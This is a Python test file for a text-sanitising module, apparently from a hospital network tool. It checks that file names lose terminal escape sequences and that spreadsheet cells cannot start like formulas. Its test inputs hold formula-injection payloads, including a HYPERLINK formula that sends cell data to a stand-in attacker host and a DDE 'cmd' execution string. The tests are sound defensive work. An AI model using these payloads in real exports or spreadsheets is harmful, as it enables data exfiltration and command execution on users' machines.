"""Text made printable: nothing that steers a terminal is left, and every encoder takes it."""

from __future__ import annotations

import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from medwarden.kernel.printable import neutral_cell, neutral_text, printable


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("ward 3/CT.pcap", "ward 3/CT.pcap"),
        ("a\nb", "a\\nb"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("right\u202eto left", "right\\u202eto left"),
        (os.fsdecode(b"\xff\xfe"), "\\xff\\xfe"),
        ("Röntgen 放射", "Röntgen 放射"),
    ],
)
def test_what_is_not_printable_is_escaped(name: str, shown: str) -> None:
    assert printable(name) == shown


@given(st.binary(max_size=60))
def test_every_file_name_becomes_one_printable_line(name: bytes) -> None:
    shown = printable(os.fsdecode(name))
    assert shown.isprintable()
    shown.encode()


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "\uff1dSUM(A1)",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
    ],
)
def test_no_cell_begins_like_a_formula(cell: str) -> None:
    assert neutral_text(cell) == f"'{cell}"
    assert neutral_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Infusomat", "10.0.0.1", "a=b", "'=1", "§ 3", " ward 3", "00:11:22"])
def test_an_ordinary_cell_stays_as_it_is(cell: str) -> None:
    assert neutral_text(cell) == cell


@pytest.mark.parametrize("cell", [-5, -0.5, None, True])
def test_what_is_no_text_stays(cell: object) -> None:
    assert neutral_cell(cell) is cell
